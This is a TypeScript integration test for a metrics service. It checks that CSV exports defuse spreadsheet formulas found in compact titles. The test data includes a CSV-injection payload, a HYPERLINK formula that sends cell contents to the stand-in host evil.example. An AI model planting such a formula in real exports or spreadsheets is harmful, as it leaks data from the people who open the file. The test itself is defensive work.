// CSV formula injection (issue 18): a compact whose title is a spreadsheet formula, projected from its event
// and exported as CSV, reaches the file as text a spreadsheet will not evaluate; numbers stay numbers.
import 'reflect-metadata';
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { signToken } from '@crosswalk/auth';
import { CityCreated, CompactSigned } from '@crosswalk/contracts';
import { type ServiceUnderTest, TEST_JWT_SECRET, pollUntil, startServiceUnderTest } from '@crosswalk/testing';
import { METRICS_SERVICE } from '../src/metrics.definition';
import { event } from './network';

const ANALYST = signToken({ subject: 'analyst-1', role: 'analyst' }, { secret: TEST_JWT_SECRET, issuer: 'crosswalk', audience: 'crosswalk-api' });
const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the compact")';

describe('metrics CSV exports and spreadsheet formulas', () => {
  let underTest: ServiceUnderTest;
  const cityId = randomUUID();
  const compactId = randomUUID();

  const get = (path: string): Promise<Response> => fetch(`${underTest.service.url}${path}`, { headers: { authorization: `Bearer ${ANALYST}` } });

  beforeAll(async () => {
    underTest = await startServiceUnderTest(METRICS_SERVICE, { database: 'metrics_csv_formulas', wire: { clientId: 'metrics-csv-test' } });
    await underTest.wire.publish(
      event(CityCreated, cityId, cityId, { cityId, name: 'Denver', state: 'CO' }, '2024-01-02T09:00:00Z').envelope,
      event(
        CompactSigned,
        compactId,
        cityId,
        {
          compactId,
          cityId,
          title: HOSTILE_TITLE,
          signedOn: '2024-01-10',
          signatories: [
            { signatoryId: randomUUID(), organizationId: randomUUID(), personId: 'person-1', roleAtSigning: null, tenureId: null, signedOn: '2024-01-10' },
          ],
        },
        '2024-01-10T15:00:00Z',
      ).envelope,
    );
  });

  afterAll(() => underTest?.stop());

  it('neutralises a formula in a compact title and keeps the numbers as numbers', async () => {
    const json = await pollUntil(
      async () => (await get(`/v1/metrics/compacts/${compactId}`)).json() as Promise<Record<string, unknown>>,
      (body) => body.title === HOSTILE_TITLE,
      { timeoutMs: 60_000, description: 'the compact projected' },
    );
    // The JSON answer is the data as it is; only the spreadsheet file is defended.
    expect(json).toMatchObject({ title: HOSTILE_TITLE, signatories: 1 });

    const csv = await (await get(`/v1/metrics/compacts/${compactId}?format=csv`)).text();
    const [header, row] = parse(csv) as string[][];
    const cells = Object.fromEntries(header.map((name, i) => [name, row[i]]));
    expect(cells.title).toBe(`'${HOSTILE_TITLE}`);
    // No cell of the file starts a formula; the counts are bare numbers.
    for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toMatchObject({ compactId, cityId, signatories: '1', inPost: expect.stringMatching(/^\d+$/) });
  });
});
